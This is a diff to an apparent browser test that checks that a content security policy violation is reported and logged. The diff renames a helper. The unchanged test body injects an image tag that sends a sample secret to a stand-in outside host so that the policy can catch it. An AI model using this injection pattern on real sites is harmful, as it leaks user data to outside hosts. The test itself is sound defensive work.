@@ -62,10 +62,10 @@ test('a browser reports a violation of the policy, and the BFF logs it', async (
   );
   try {
     const origin = `https://localhost:${ingress.port}`;
-    const { page, faults } = await visit(browser, origin);
+    const { page, problems } = await visit(browser, origin);
     await page.goto(`${origin}/web/?mail=hunter2`);
     await bffIs(page, 'up');
-    expect(faults()).toEqual([]);
+    expect(problems()).toEqual([]);
     await page.evaluate(() => {
       document.body.appendChild(document.createElement('img')).src = 'https://elsewhere.example/x?y=hunter2';
     });
